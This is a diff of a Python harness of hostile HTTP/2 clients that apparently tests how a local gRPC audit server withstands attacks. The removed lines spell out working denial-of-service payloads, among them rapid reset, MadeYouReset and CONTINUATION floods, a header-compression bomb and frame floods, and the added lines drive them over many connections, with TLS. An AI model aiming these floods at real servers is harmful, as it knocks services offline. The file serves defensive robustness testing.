@@ -1,173 +1,177 @@
-"""Hostile clients, each a process of its own: attacks.py NAME PORT SECONDS.
+"""Hostile clients, for a process of its own that reads lines: NAME PORT SECONDS [CA_FILE].
 
 An attack sends its bytes, reads what comes, and connects anew when it is thrown out, for so many
-seconds. It writes one line of JSON: how many connections it made, how many of them the server ended,
-and the GOAWAY codes it saw.
+seconds; one that breaks a rule goes on until it was thrown out once. With CA_FILE it speaks TLS. It
+writes one line of JSON: how many connections it made, how many of them the server ended, the GOAWAY codes
+it saw, and how many bytes it sent.
 """
 
 import json
 import pathlib
 import select
 import socket
-import struct
+import ssl
 import sys
 import time
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
 
-from support import raw_h2  # noqa: E402
-from support.raw_h2 import frame  # noqa: E402
+from support import attacks_floods, attacks_memory, attacks_tls, attacks_work, raw_h2  # noqa: E402
 
-WRITE = "/auditstore.v1.AuditStore/WriteEvents"
-STREAM = "/auditstore.v1.AuditStore/StreamEvents"
-CHECK = "/grpc.health.v1.Health/Check"
-WATCH = "/grpc.health.v1.Health/Watch"
-CANCEL = struct.pack("!I", 8)
-
-
-def repeated(one):
-    """The same bytes again and again, in pieces of about 64 KiB."""
-    piece = one * (1 + 65536 // len(one))
-    while True:
-        yield piece
+ATTACKS = {**attacks_floods.ATTACKS, **attacks_memory.ATTACKS, **attacks_work.ATTACKS,
+           **attacks_tls.ATTACKS}
+CONNECT_TIMEOUT_S = 10
+# A peer that the server throws out at once would otherwise fill the machine with sockets in TIME_WAIT.
+MAX_CONNECTS_PER_ROUND = 64
+# How much longer an attack may go on that has to be ended: on a busy machine that comes late.
+MORE_S = 20
 
 
-def streams(one):
-    """one(stream id) for stream after stream."""
-    stream = 1
-    while stream < 2**30:
-        piece = b""
-        while len(piece) < 32768:
-            piece += one(stream)
-            stream += 2
-        yield piece
+class Peer:
+    """One connection of an attack, which feeds it bytes, or seconds to wait."""
 
+    def __init__(self, attack, port, context):
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT_S)
+        if context and attack.is_http2:
+            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
+        self.sock.setblocking(False)
+        self.is_http2 = attack.is_http2
+        self.is_reading = attack.is_reading
+        self.pieces = attack.pieces(self)
+        self.rest = memoryview(attack.opening())
+        self.resume_at = 0
+        self.open_calls = 0  # counted up by the attack
+        self.received = bytearray()
+        self.codes = []
+        self.sent = 0
 
-def rapid_reset():
-    """CVE-2023-44487"""
-    return streams(lambda stream: raw_h2.grpc_headers(stream, CHECK) +
-                   frame(raw_h2.RST_STREAM, stream=stream, payload=CANCEL))
+    def wants_to_send(self, now):
+        if not self.rest and now >= self.resume_at:
+            piece = next(self.pieces, None)
+            if isinstance(piece, bytes):
+                self.rest = memoryview(piece)
+            else:
+                self.resume_at = now + (3600 if piece is None else piece)
+        return len(self.rest) > 0
 
+    def send(self):
+        """False when the server has ended it."""
+        try:
+            count = self.sock.send(self.rest)
+        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            return True
+        except (OSError, ssl.SSLError):
+            return False
+        self.sent += count
+        self.rest = self.rest[count:]
+        return True
 
-def made_you_reset():
-    """CVE-2025-8671: the server is made to reset streams, whose work would go on."""
-    return streams(lambda stream: raw_h2.grpc_headers(stream, CHECK) +
-                   frame(raw_h2.WINDOW_UPDATE, stream=stream, payload=bytes(4)))
+    def receive(self):
+        """The same. Settings are acknowledged."""
+        try:
+            while data := self.sock.recv(65536):
+                self.received += data
+                if self.is_http2:
+                    self.take_frames()
+                if len(data) < 16384:
+                    return True
+        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            return True
+        except (OSError, ssl.SSLError):
+            pass
+        return False
 
+    def take_frames(self):
+        at = 0
+        while len(self.received) >= at + 9:
+            length = int.from_bytes(self.received[at:at + 3], "big")
+            if len(self.received) < at + 9 + length:
+                break
+            self.take(self.received[at + 3], self.received[at + 4],
+                      self.received[at + 9:at + 9 + length])
+            at += 9 + length
+        del self.received[:at]
 
-def half_requests():
-    """Calls whose messages never become complete, from so many streams as there may be."""
-    yield b"".join(raw_h2.grpc_headers(2 * i + 1, WRITE) +
-                   frame(raw_h2.DATA, stream=2 * i + 1, payload=struct.pack("!BI", 0, 4 << 20))
-                   for i in range(256))
-    for _ in range(60):
-        for i in range(256):
-            yield frame(raw_h2.DATA, stream=2 * i + 1, payload=bytes(16384))
-
-
-def header_bomb():
-    """One field of 4,000 bytes enters the table, and is then named by one byte again and again."""
-    field = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([0xa1, 0x1e]) + b"v" * 4000
-    start = raw_h2.header_block((":method", "POST"), (":scheme", "http"), (":path", CHECK),
-                                (":authority", "test"))
-    return streams(lambda stream: frame(raw_h2.HEADERS, raw_h2.END_HEADERS, stream,
-                                        start + field + b"\xbe" * 12000))
-
-
-def continuations():
-    """CVE-2024-28182"""
-    yield frame(raw_h2.HEADERS, 0, 1, raw_h2.header_block((":method", "POST")))
-    yield from repeated(frame(raw_h2.CONTINUATION, 0, 1, raw_h2.header_block(("a", "b"))))
-
-
-def dribble():
-    """A message byte by byte."""
-    yield raw_h2.grpc_headers(1, STREAM)
-    yield frame(raw_h2.DATA, stream=1, payload=struct.pack("!BI", 0, 4 << 20))
-    yield from repeated(frame(raw_h2.DATA, stream=1, payload=b"x"))
-
-
-def empty_data():
-    yield raw_h2.grpc_headers(1, STREAM)
-    yield from repeated(frame(raw_h2.DATA, stream=1))
-
-
-def shut_windows():
-    """Many calls whose answers are never taken."""
-    yield frame(raw_h2.SETTINGS, payload=raw_h2.setting(4, 0))
-    yield from streams(lambda stream: raw_h2.grpc_call(stream, WATCH, b""))
-
-
-def garbage():
-    return repeated(bytes(range(256)))
-
-
-ATTACKS = {
-    "rapid_reset": rapid_reset,
-    "made_you_reset": made_you_reset,
-    "half_requests": half_requests,
-    "header_bomb": header_bomb,
-    "continuations": continuations,
-    "dribble": dribble,
-    "empty_data": empty_data,
-    "shut_windows": shut_windows,
-    "garbage": garbage,
-    "pings": lambda: repeated(frame(raw_h2.PING, payload=bytes(8))),
-    "settings": lambda: repeated(frame(raw_h2.SETTINGS, payload=raw_h2.setting(3, 100))),
-    "window_updates": lambda: repeated(raw_h2.window_update(0, 1)),
-    "priorities": lambda: repeated(frame(raw_h2.PRIORITY, stream=3, payload=bytes(5))),
-    "unknown_frames": lambda: repeated(frame(0xBE)),
-}
+    def take(self, kind, flags, payload):
+        if kind == raw_h2.GOAWAY:
+            self.codes.append(str(int.from_bytes(payload[4:8], "big")))
+        elif kind == raw_h2.SETTINGS and not flags & raw_h2.ACK:
+            self.rest = memoryview(bytes(self.rest) + raw_h2.frame(raw_h2.SETTINGS, raw_h2.ACK))
+        elif kind == raw_h2.RST_STREAM or (kind in (raw_h2.DATA, raw_h2.HEADERS)
+                                           and flags & raw_h2.END_STREAM):
+            self.open_calls -= 1
 
 
 class Attacker:
-    def __init__(self, attack, port, end):
-        self.attack, self.port, self.end = attack, port, end
-        self.connections = self.ended = self.bytes_sent = 0
-        self.codes = {}
+    """Keeps as many connections as the attack has."""
+
+    def __init__(self, attack, port, context, end):
+        self.attack, self.port, self.context, self.end = attack, port, context, end
+        self.peers = {}
+        self.poll = select.poll()
+        self.counts = {"connections": 0, "ended": 0, "bytes": 0, "codes": {}}
 
     def run(self):
-        while time.monotonic() < self.end:
-            self.connections += 1
-            sock = socket.create_connection(("127.0.0.1", self.port), timeout=10)
-            with sock:
-                sock.setblocking(False)
-                self.ended += self.attack_over(sock)
-        return {"connections": self.connections, "ended": self.ended, "codes": self.codes,
-                "bytes": self.bytes_sent}
+        while not self.is_over(time.monotonic()):
+            self.connect()
+            self.turn()
+        for peer in list(self.peers.values()):
+            self.drop(peer)
+        return self.counts
 
-    def attack_over(self, sock):
-        """Whether the server ended it."""
-        pieces = ATTACKS[self.attack]()
-        received, rest = bytearray(), raw_h2.PREFACE + frame(raw_h2.SETTINGS)
-        while time.monotonic() < self.end:
-            readable, writable, _ = select.select([sock], [sock] if rest else [], [], 0.1)
+    def is_over(self, now):
+        must_be_ended = not self.attack.keeps_rules and not self.counts["ended"]
+        return now > self.end + (MORE_S if must_be_ended else 0)
+
+    def connect(self):
+        for _ in range(min(self.attack.connections - len(self.peers), MAX_CONNECTS_PER_ROUND)):
+            self.counts["connections"] += 1
             try:
-                if writable:
-                    sent = sock.send(rest)
-                    self.bytes_sent += sent
-                    rest = rest[sent:] or next(pieces, b"")
-                if readable:
-                    data = sock.recv(65536)
-                    received += data
-                    if not data:
-                        break
-            except ConnectionError:
-                break
-            self.take(received)
-        else:
-            return False
-        return True
+                peer = Peer(self.attack, self.port, self.context)
+            except (OSError, ssl.SSLError):
+                self.counts["ended"] += 1
+                continue
+            self.peers[peer.sock.fileno()] = peer
+            self.poll.register(peer.sock, 0)
 
-    def take(self, received):
-        while len(received) >= 9 + int.from_bytes(received[:3], "big"):
-            length = int.from_bytes(received[:3], "big")
-            if received[3] == raw_h2.GOAWAY:
-                code = str(int.from_bytes(received[13:17], "big"))
-                self.codes[code] = self.codes.get(code, 0) + 1
-            del received[:9 + length]
+    def turn(self):
+        now = time.monotonic()
+        for fd, peer in self.peers.items():
+            self.poll.modify(fd, (select.POLLIN if peer.is_reading else 0) |
+                             (select.POLLOUT if peer.wants_to_send(now) else 0))
+        for fd, ready in self.poll.poll(1):
+            peer = self.peers[fd]
+            goes_on = not ready & select.POLLERR
+            if ready & (select.POLLIN | select.POLLHUP):
+                goes_on = peer.receive()
+            if goes_on and ready & select.POLLOUT:
+                goes_on = peer.send()
+            if not goes_on:
+                self.counts["ended"] += 1
+                self.drop(peer)
+
+    def drop(self, peer):
+        self.poll.unregister(peer.sock)
+        del self.peers[peer.sock.fileno()]
+        self.counts["bytes"] += peer.sent
+        for code in peer.codes:
+            self.counts["codes"][code] = self.counts["codes"].get(code, 0) + 1
+        peer.sock.close()
+
+
+def context_of(ca_file):
+    context = ssl.create_default_context(cafile=ca_file)
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
+def run(name, port, seconds, ca_file=None):
+    attack, end = ATTACKS[name], time.monotonic() + float(seconds)
+    if hasattr(attack, "run"):
+        return attack.run(int(port), end)
+    return Attacker(attack, int(port), context_of(ca_file) if ca_file else None, end).run()
 
 
 if __name__ == "__main__":
-    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
-    print(json.dumps(Attacker(name, port, time.monotonic() + seconds).run()))
+    for line in sys.stdin:
+        print(json.dumps(run(*line.split())), flush=True)
